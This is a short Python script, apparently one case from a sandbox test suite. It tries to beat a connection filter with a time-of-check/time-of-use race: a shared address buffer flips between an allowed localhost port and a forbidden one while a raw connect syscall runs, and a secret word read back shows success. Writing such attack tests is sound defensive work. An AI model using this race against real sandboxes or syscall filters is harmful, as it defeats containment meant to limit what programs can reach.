"""The port changes between the check of a connection and the connection."""

import socket
import struct

from attack import SECRET_WORD, WORLD, Shared, race, syscall, tries

CONNECT = 42


def address(port: int) -> bytes:
    """Return the address of a port of this machine, as it lies in memory."""
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, b"\x7f\0\0\1")


peer_address = Shared(address(WORLD.declared), address(WORLD.tcp4))


def strike() -> bool:
    """Connect to whatever port stands there now."""
    with socket.socket() as peer:
        syscall(CONNECT, peer.fileno(), peer_address.address, 16)
        return peer.recv(100).startswith(SECRET_WORD)


with tries():
    race(peer_address.flip, strike)
